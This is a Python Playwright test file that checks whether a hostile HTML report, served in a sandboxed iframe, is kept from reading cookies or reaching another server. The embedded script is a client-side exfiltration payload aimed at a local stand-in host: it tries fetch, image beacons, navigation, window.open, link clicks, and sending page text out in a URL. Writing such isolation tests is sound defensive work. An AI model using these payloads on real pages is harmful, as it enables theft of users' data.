"""A hostile report in a browser: it is shown, its scripts run, and nothing of it gets out."""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import SimpleNamespace
from typing import Any

import pytest
from playwright import sync_api
from tests.web.serving import CHROMIUM, served

PATH = "/api/rollouts/r/reports/run/docs/a.html"


class Elsewhere(ThreadingHTTPServer):
    """Another site, which writes down what it is asked."""

    daemon_threads = True

    def __init__(self) -> None:
        self.asked: list[str] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                outer.asked.append(self.path)
                self.send_response(200)
                self.end_headers()

            def log_message(self, *_: Any) -> None:
                """Nothing is said of it."""

        super().__init__(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server_address[1]}"


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    server = Elsewhere()
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield server
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.fixture
def address(elsewhere: Elsewhere) -> Iterator[str]:
    """Address of a page whose one report does what it can."""
    hostile = f"""<!doctype html><p id=shown>report</p><script>
      const there = "{elsewhere.url}/";
      try {{ document.cookie; document.title = "cookies"; }} catch {{ document.title = "kept"; }}
      fetch(there + "fetch").catch(() => 0);
      new Image().src = there + "image";
      try {{ top.location = there + "top"; }} catch {{}}
      try {{ open(there + "window"); }} catch {{}}
      const a = document.createElement("a");
      a.href = there + "link"; a.target = "_blank"; document.body.append(a); a.click();
      const leave = () => {{ location = there + "self?" + document.body.innerText; }};
      </script>"""
    with served(SimpleNamespace(report=lambda *_: hostile.encode())) as url:
        yield url + PATH


def test_a_hostile_report_is_shown_and_nothing_gets_out(address: str, elsewhere: Elsewhere) -> None:
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        page = browser.new_page()
        answer = page.goto(address)
        assert answer.status == 200
        frame = page.frames[1]
        frame.wait_for_selector("#shown")
        assert (frame.title(), frame.evaluate("self.origin")) == ("kept", "null")
        frame.evaluate("void setTimeout(leave)")
        frame.wait_for_url(lambda url: not url.startswith(address), wait_until="commit", timeout=10_000)
        assert page.url == address
        assert elsewhere.asked == []
        page.goto(f"{address}?frame=1")  # alone it is in our frame as well
        assert page.locator("iframe").count() == 1
        assert page.locator("#shown").count() == 0
        browser.close()
